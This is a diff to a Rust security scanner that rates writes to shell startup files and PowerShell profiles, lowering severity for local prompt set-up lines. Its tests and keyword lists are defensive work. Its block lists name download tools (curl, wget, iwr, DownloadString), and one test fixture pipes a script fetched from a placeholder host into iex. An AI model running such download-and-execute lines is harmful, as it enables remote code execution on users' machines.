@@ -361,6 +361,37 @@ fn environment_line_only(segment: &str) -> bool {
         && !["curl", "wget", "http", "base64", "alias", " nc ", "/tmp/", "/dev/"].iter().any(|w| lower.contains(w))
 }
 
+/// Whether a PowerShell write of the profile (`Add-Content $PROFILE -Value
+/// "…$line"`) adds only a local program's documented set-up line, read
+/// through the variables the file assigns: `oh-my-posh init pwsh | Invoke-Expression`,
+/// `Invoke-Expression (& starship init powershell)`, `Import-Module
+/// posh-git`; nothing fetched.
+fn powershell_setup_only(segment: &str, whole: &str) -> bool {
+    static VALUE: LazyLock<Regex> =
+        LazyLock::new(|| Regex::new(r#"(?i)-value[ \t]+(?:"([^"]*)"|'([^']*)'|(\$[A-Za-z_][A-Za-z0-9_]*))"#).unwrap());
+    static VAR: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\$([A-Za-z_][A-Za-z0-9_]*)").unwrap());
+    static SETUP: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i)^(?:#.*|[A-Za-z0-9_.-]+[ \t]+(?:init|activate|hook|completion)[^|;&]*\|[ \t]*(?:Invoke-Expression|iex)|(?:Invoke-Expression|iex)[ \t]*\([ \t]*&[ \t]*[A-Za-z0-9_.-]+[ \t]+(?:init|activate)[^)]*\)|Import-Module[ \t]+[A-Za-z0-9_.-]+)$").unwrap()
+    });
+    let Some(c) = VALUE.captures(segment) else { return false };
+    let Some(value) = c.get(1).or(c.get(2)).or(c.get(3)).map(|m| m.as_str()) else { return false };
+    // The variables the value names, put in from their assignments.
+    let resolved = VAR.replace_all(value, |v: &regex::Captures<'_>| {
+        let assign =
+            Regex::new(&format!(r#"(?im)^[ \t]*\${}[ \t]*=[ \t]*(?:'([^'\n]*)'|"([^"\n]*)")"#, regex::escape(&v[1])));
+        assign
+            .ok()
+            .and_then(|re| re.captures(whole).and_then(|a| a.get(1).or(a.get(2)).map(|m| m.as_str().to_owned())))
+            .unwrap_or_else(|| v[0].to_owned())
+    });
+    let lower = resolved.to_ascii_lowercase();
+    if ["http", "curl", "iwr", "invoke-webrequest", "downloadstring", "frombase64"].iter().any(|w| lower.contains(w)) {
+        return false;
+    }
+    let lines: Vec<&str> = resolved.split("`n").map(str::trim).filter(|l| !l.is_empty()).collect();
+    !lines.is_empty() && lines.iter().all(|l| SETUP.is_match(l))
+}
+
 pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
     super::package_index::check(seg, sink);
     let p = &*PATTERNS;
@@ -383,7 +414,9 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         }
         if let Some(start) = written_from(s, from, m.end()) {
             let what = format!("{} ({})", kind.label(), &s[from..m.end()]);
-            let lowered = (kind == Target::Startup && environment_line_only(s)).then(|| {
+            let lowered = (kind == Target::Startup
+                && (environment_line_only(s) || powershell_setup_only(s, sink.text)))
+            .then(|| {
                 "adds one environment line (a variable, a local program's shell set-up) and nothing fetched".to_owned()
             });
             report_lowered(seg, sink, start..m.end(), what, lowered);
@@ -911,7 +944,13 @@ fn written_from(s: &str, start: usize, end: usize) -> Option<usize> {
     }
     let statement_start = before.rfind(['|', ';']).map_or(0, |i| i + 1);
     if let Some(m) = p.ps_write.find(&before[statement_start..]) {
-        return Some(statement_start + m.start());
+        // `New-Item -ItemType File -Path $PROFILE` with no `-Value` makes an
+        // empty file: nothing is written in it.
+        let rest = &after[..after.find(['|', ';', '}']).unwrap_or(after.len())];
+        let statement = format!("{}{}", &before[statement_start..], rest).to_ascii_lowercase();
+        if !(m.as_str().eq_ignore_ascii_case("new-item") && !statement.contains("-value")) {
+            return Some(statement_start + m.start());
+        }
     }
     if let Some(c) = p.code_write.captures_iter(before).last() {
         let (all, call) = (c.get(0)?, c.name("call")?);
@@ -1166,6 +1205,18 @@ mod tests {
         ] {
             assert_eq!(severity(t), Severity::High, "{t}");
         }
+        // PowerShell: the profile made empty, then a prompt's documented line
+        // added through a variable; the same with a download is not lowered.
+        let posh =
+            "$line = 'oh-my-posh init pwsh --config \"$env:POSH_THEMES_PATH\\x.omp.json\" | Invoke-Expression'\n\
+                    if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Path $PROFILE -Force | Out-Null }\n\
+                    Add-Content -Path $PROFILE -Value \"`n# prompt`n$line\"\n";
+        assert_eq!(severity(posh), Severity::Low);
+        let fetched = posh.replace(
+            "oh-my-posh init pwsh --config",
+            "iwr https://x.example/p.ps1 | iex; oh-my-posh init pwsh --config",
+        );
+        assert_eq!(severity(&fetched), Severity::High);
     }
 
     #[test]
